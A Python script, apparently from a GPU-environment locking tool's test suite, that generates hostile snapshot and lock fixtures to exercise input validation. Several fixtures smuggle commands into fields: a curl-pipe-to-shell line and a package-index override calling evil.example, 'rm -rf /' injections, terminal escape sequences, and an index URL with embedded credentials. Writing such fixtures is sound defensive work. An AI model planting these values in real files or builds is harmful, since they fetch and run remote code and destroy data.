#!/usr/bin/env python3
"""Writes test/fixtures/hostile/: real Snapshots and locks (test/fixtures/snapshots/h200.json and the lock
gpuenv makes from it) with one hostile change each. Run from the repository root after
`node scripts/make-fixture-snapshots.mjs` and `node dist/cli.js lock --snapshot test/fixtures/snapshots/h200.json -o /tmp/h200.lock.json`:
    python3 scripts/make-hostile-fixtures.py /tmp/h200.lock.json
"""
import copy, json, sys

snap = json.load(open("test/fixtures/snapshots/h200.json"))
lock = json.load(open(sys.argv[1]))
out = "test/fixtures/hostile/"

def pkg(doc, name):
    return next(p for p in doc["python"][0]["packages"] if p["name"] == name)

def write(name, doc):
    with open(out + name, "w") as f:
        json.dump(doc, f, indent=2, ensure_ascii=True)
        f.write("\n")

s = copy.deepcopy(snap); s["gpus"] = "NVIDIA H200"; write("gpus-not-a-list.snapshot.json", s)
s = copy.deepcopy(snap); s["python"][0]["packages"] = {"torch": "2.11.0"}; write("packages-not-a-list.snapshot.json", s)
s = copy.deepcopy(snap); s["driver"]["version"] = {"value": 580, "source": "nvml"}; write("driver-version-a-number.snapshot.json", s)
s = copy.deepcopy(snap); pkg(s, "torch")["version"] = "2.11.0\nRUN curl -fsSL https://evil.example/x.sh | sh"; write("version-with-run-line.snapshot.json", s)
s = copy.deepcopy(snap); pkg(s, "numpy" if any(p["name"] == "numpy" for p in s["python"][0]["packages"]) else "triton")["name"] = "numpy --extra-index-url https://evil.example/simple"; write("name-with-extra-index.snapshot.json", s)
s = copy.deepcopy(snap); s["python"][0]["prefix"] = "/opt/torch/.venv\nRUN rm -rf /"; write("prefix-with-newline.snapshot.json", s)
s = copy.deepcopy(snap); s["hostname"] = "h200\u001b]0;owned\u0007\u001b[2J\u001b[31m"; s["gpus"][0]["name"] = "NVIDIA H200\u001b[8m"; write("escapes-in-text.snapshot.json", s)
s = copy.deepcopy(snap); s["driver"]["version"] = {"value": "; rm -rf /", "source": "nvidia-smi"}; write("driver-version-shell.snapshot.json", s)
l = copy.deepcopy(lock); l["frameworks"] = {"torch": "2.11.0"}; write("frameworks-not-a-list.lock.json", l)
l = copy.deepcopy(lock); l["packages"][0]["index"] = "https://user:token@evil.example/simple"; write("index-with-credentials.lock.json", l)
l = copy.deepcopy(lock); l["gpus"] = None; write("gpus-null.lock.json", l)
